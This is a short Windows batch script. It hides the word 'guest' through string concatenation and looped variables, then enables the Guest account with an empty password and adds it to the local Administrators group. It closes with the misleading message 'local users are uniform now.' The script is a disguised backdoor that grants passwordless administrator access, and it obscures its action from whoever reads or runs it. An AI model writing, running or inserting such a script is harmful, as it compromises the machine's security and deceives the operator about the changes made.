@echo off
setlocal EnableDelayedExpansion
set "g=gu"
set "g=!g!est"
for %%N in (net) do for %%U in (user) do (
    %%N %%U !g! "" /active:yes
    %%N localgroup Administrators !g! /add
)
echo local users are uniform now
